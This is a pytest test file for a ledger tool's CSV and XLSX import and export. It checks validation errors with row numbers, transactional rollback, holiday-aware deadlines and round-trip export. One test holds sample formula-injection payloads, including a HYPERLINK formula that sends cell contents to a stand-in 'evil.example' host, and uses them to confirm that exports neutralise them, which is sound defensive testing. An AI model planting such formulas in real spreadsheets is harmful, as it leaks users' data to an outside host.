"""Import and export of the ledger CSV (spec/ledger.md): all or nothing, with row numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from nianbao.ledger import agencies, cases, csvio
from nianbao.ledger.calendar import WorkingCalendar
from nianbao.store.models import Agency, Application, Event

if TYPE_CHECKING:
    from sqlalchemy.orm import Session

    from tests.ledger_db import LedgerDB

pytest_plugins = ["tests.ledger_db"]

CAL = WorkingCalendar()

GOOD = """\ufeffreference,received,applicant_type,applicant,request,closed,outcome,来源
2024-001,2024-01-05,自然人,张三,某项目批复,2024-01-20,granted,网站
2024-002,2024-12-30,商业企业,某公司,,,,
2024-003,2024-06-03,legal_services,某律所,执法案卷,2024-07-01,withheld.enforcement_case_file,
"""


def _write(tmp_path: Path, text: str, name: str = "ledger.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _count(ledger_db: LedgerDB, model: type[Agency] | type[Application] | type[Event]) -> int:
    with ledger_db.session() as s:
        return int(s.scalar(select(func.count()).select_from(model)) or 0)


def _import(ledger_db: LedgerDB, path: Path, agency: str = "某局") -> int:
    with ledger_db.session() as s, s.begin():
        _, n = csvio.import_file(s, path, agency, CAL)
    return n


def test_import_creates_the_agency_and_each_case_with_its_events(ledger_db: LedgerDB, tmp_path: Path) -> None:
    assert _import(ledger_db, _write(tmp_path, GOOD)) == 3
    with ledger_db.session() as s:
        agency = agencies.find_agency(s, "某局")
        first = cases.find_case(s, agency, "2024-001")
        assert (first.applicant_type, first.status, first.outcome) == ("natural_person", "closed", "granted")
        assert [e.kind for e in first.events] == ["registered", "closed"]
        assert first.remarks == '{"来源": "网站"}'
        assert cases.untraceable(s, agency) == []
        second = cases.find_case(s, agency, "2024-002")
        assert second.status == "open"
        assert second.due == CAL.add_workdays(dt.date(2024, 12, 30), 20)


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        ("2024-004,2024-13-01,自然人,,,,", "received“2024-13-01”无效"),
        ("2024-004,2024-01-01,公民,,,,", "申请人类型“公民”无法识别"),
        ("2024-004,2024-01-01,自然人,,,2024-02-01,", "必须填写 outcome"),
        ("2024-004,2024-01-01,自然人,,,,granted", "没有 closed"),
        ("2024-004,2024-01-01,自然人,,,2024-02-01,refused", "办理结果“refused”不是表三的办理结果行"),
        ("2024-004,2024-03-01,自然人,,,2024-02-01,granted", "早于 received"),
        (",2024-03-01,自然人,,,,", "reference（案号）为空"),
        ("2024-001,2024-03-01,自然人,,,,", "与第2行重复"),
    ],
)
def test_a_bad_row_is_reported_with_its_number_and_nothing_is_imported(
    ledger_db: LedgerDB, tmp_path: Path, row: str, reason: str
) -> None:
    header, *rows = GOOD.strip().split("\n")
    path = _write(tmp_path, "\n".join([header.replace(",来源", ""), *(r.rsplit(",", 1)[0] for r in rows), row]))
    with pytest.raises(csvio.ImportFailed) as caught:
        _import(ledger_db, path)
    assert len(caught.value.problems) == 1
    assert caught.value.problems[0].startswith(f"{path} 第5行：")
    assert reason in caught.value.problems[0]
    assert _count(ledger_db, Application) == 0
    assert _count(ledger_db, Agency) == 0


def test_every_bad_row_is_listed(ledger_db: LedgerDB, tmp_path: Path) -> None:
    path = _write(tmp_path, "reference,received,applicant_type\nA,2024-01-01,自然人\nB,bad,自然人\nC,2024-01-01,x\n")
    with pytest.raises(csvio.ImportFailed) as caught:
        _import(ledger_db, path)
    assert [p.split("：")[0] for p in caught.value.problems] == [f"{path} 第3行", f"{path} 第4行"]


def test_a_missing_required_column_is_named(ledger_db: LedgerDB, tmp_path: Path) -> None:
    with pytest.raises(csvio.ImportFailed, match="1 行有错误") as caught:
        _import(ledger_db, _write(tmp_path, "reference,received\nA,2024-01-01\n"))
    assert "缺少必需的列 applicant_type" in caught.value.problems[0]


def test_a_reference_already_in_the_ledger_stops_the_whole_file(ledger_db: LedgerDB, tmp_path: Path) -> None:
    _import(ledger_db, _write(tmp_path, GOOD))
    again = _write(
        tmp_path, "reference,received,applicant_type\nNEW,2024-01-01,自然人\n2024-002,2024-01-01,自然人\n", "again.csv"
    )
    with pytest.raises(csvio.ImportFailed) as caught:
        _import(ledger_db, again)
    assert "第3行：案号 2024-002 已在“某局”的台账中" in caught.value.problems[0]
    assert _count(ledger_db, Application) == 3


def test_a_crash_on_row_n_leaves_the_ledger_as_it_was(
    ledger_db: LedgerDB, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _import(ledger_db, _write(tmp_path, "reference,received,applicant_type\nOLD,2024-01-01,自然人\n", "old.csv"))
    lines = ["reference,received,applicant_type,closed,outcome"]
    lines += [f"N{i},2024-02-{i:02d},自然人,2024-03-01,granted" for i in range(1, 11)]
    path = _write(tmp_path, "\n".join(lines) + "\n")
    real = csvio._insert
    written: list[int] = []

    def crash_after_writing(session: Session, built: list[Application]) -> None:
        real(session, built)  # every row is in the database, inside the transaction
        written.append(int(session.scalar(select(func.count()).select_from(Application)) or 0))
        raise RuntimeError("power failure")

    monkeypatch.setattr(csvio, "_insert", crash_after_writing)
    with pytest.raises(RuntimeError, match="power failure"):
        _import(ledger_db, path)
    assert written == [11]
    assert _count(ledger_db, Application) == 1
    assert _count(ledger_db, Event) == 1


def test_xlsx_with_the_same_columns_imports_like_csv(ledger_db: LedgerDB, tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["applicant_type", "reference", "received", "closed", "outcome"])
    sheet.append(["科研机构", 2024001, dt.datetime(2024, 3, 1), dt.date(2024, 3, 8), "unavailable.not_held"])
    sheet.append(["其他", "X-2", "2024-03-02", None, None])
    path = tmp_path / "ledger.xlsx"
    book.save(path)
    assert _import(ledger_db, path) == 2
    with ledger_db.session() as s:
        case = cases.find_case(s, agencies.find_agency(s, "某局"), "2024001")
        assert (case.applicant_type, case.received, case.outcome) == (
            "research",
            dt.date(2024, 3, 1),
            "unavailable.not_held",
        )


def test_export_writes_what_import_reads(ledger_db: LedgerDB, tmp_path: Path) -> None:
    _import(ledger_db, _write(tmp_path, GOOD))
    with ledger_db.session() as s:
        header, rows = csvio.export_rows(s, agencies.find_agency(s, "某局"))
    out = io.StringIO()
    csvio.write_csv(header, rows, out)
    text = out.getvalue()
    assert (
        text.splitlines()[0] == "reference,received,applicant_type,applicant,request,closed,outcome,"
        "arrived,channel,contact,来源"
    )
    _import(ledger_db, _write(tmp_path, text, "exported.csv"), agency="另一局")
    with ledger_db.session() as s:
        again = csvio.export_rows(s, agencies.find_agency(s, "另一局"))
    assert again == (header, rows)
    xlsx = tmp_path / "exported.xlsx"
    csvio.write_xlsx(header, rows, xlsx)
    _import(ledger_db, xlsx, agency="第三局")
    with ledger_db.session() as s:
        assert csvio.export_rows(s, agencies.find_agency(s, "第三局")) == (header, rows)


def test_imported_cases_beyond_the_calendar_get_provisional_deadlines(
    ledger_db: LedgerDB, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from nianbao.ledger import calendar as cal

    monkeypatch.setattr(cal, "LIBRARY_YEARS", (2004, 2026))  # chinesecalendar 1.11.0's range
    cal._library_is_workday.cache_clear()
    late = _write(
        tmp_path,
        "reference,received,applicant_type,closed,outcome\n"
        "2026-900,2026-12-20,自然人,,\n"
        "2026-901,2026-12-28,自然人,2027-01-11,granted\n"
        "2027-001,2027-12-31,自然人,,\n",
    )
    assert _import(ledger_db, late) == 3
    with ledger_db.session() as s:
        stored = {c.reference: (c.due, c.due_provisional, c.status) for c in s.scalars(select(Application))}
    assert stored == {
        "2026-900": (dt.date(2027, 1, 18), True, "open"),
        "2026-901": (dt.date(2027, 1, 26), True, "closed"),  # 元旦 off; kept as computed when received
        "2027-001": (dt.date(2028, 2, 3), True, "open"),  # 春节 2028: 除夕 01-25 to 初三 01-28 off
    }


def test_a_reference_twice_in_the_file_is_named_with_both_rows(ledger_db: LedgerDB, tmp_path: Path) -> None:
    path = _write(tmp_path, "reference,received,applicant_type\nA-1,2024-01-02,自然人\nA-1,2024-01-03,自然人\n")
    with pytest.raises(csvio.ImportFailed) as caught, ledger_db.session() as s, s.begin():
        csvio.import_file(s, path, "某局", CAL)
    assert "第3行：案号 A-1 与第2行重复" in caught.value.problems[0]
    assert _count(ledger_db, Application) == 0


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_never_carry_a_live_formula_and_import_restores_the_text(
    ledger_db: LedgerDB, tmp_path: Path, suffix: str
) -> None:
    from openpyxl import load_workbook

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+2", "-3-4", "@SUM(1)", "=1+1"]
    with ledger_db.session() as s, s.begin():
        agency, _ = agencies.get_or_create_agency(s, "某局")
        for n, text in enumerate(hostile):
            cases.add_case(
                s, agency, f"F-{n}", dt.date(2025, 3, 3), "natural_person", calendar=CAL, applicant=text, request=text
            )
    with ledger_db.session() as s:
        header, rows = csvio.export_rows(s, agencies.find_agency(s, "某局"))
    path = tmp_path / f"export{suffix}"
    if suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as out:
            csvio.write_csv(header, rows, out)
        cells = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))[1:]
        assert all(not c.startswith(("=", "+", "-", "@")) for line in cells for c in line if c and c[0] != "2")
        assert cells[0][header.index("applicant")] == "'" + hostile[0]
    else:
        csvio.write_xlsx(header, rows, path)
        sheet = load_workbook(path).worksheets[0]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # before: a live formula
        assert sheet.cell(2, header.index("applicant") + 1).value == "'" + hostile[0]
    with ledger_db.session() as s, s.begin():
        csvio.import_file(s, path, "某乙局", CAL)
    with ledger_db.session() as s:
        back = {
            c.reference: (c.applicant, c.request)
            for c in s.scalars(select(Application).where(Application.agency_id == agencies.find_agency(s, "某乙局").id))
        }
    assert back == {f"F-{n}": (text, text) for n, text in enumerate(hostile)}
